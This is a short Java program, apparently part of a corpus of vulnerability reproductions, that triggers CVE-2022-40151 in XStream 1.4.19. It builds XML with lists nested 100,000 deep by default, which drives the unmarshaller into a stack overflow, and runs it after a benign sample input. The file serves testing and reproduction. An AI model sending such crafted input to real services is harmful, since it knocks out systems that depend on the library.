package corpus.xstream;

import com.thoughtworks.xstream.XStream;
import corpus.CorpusDriver;

/**
 * XStream 1.4.19, CVE-2022-40151: collections nested without limit in the XML make the unmarshaller
 * recurse through its converters until the stack runs out (1.4.20 turns the overflow into an
 * {@code XStreamException}).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("<list>", "<int>1</int>", "</list>", depth);
        CorpusDriver.run("xstream", XStream.class,
                () -> new XStream().fromXML("<list><string>benign</string><list><int>1</int><int>2</int></list></list>"),
                () -> new XStream().fromXML(hostile));
    }
}
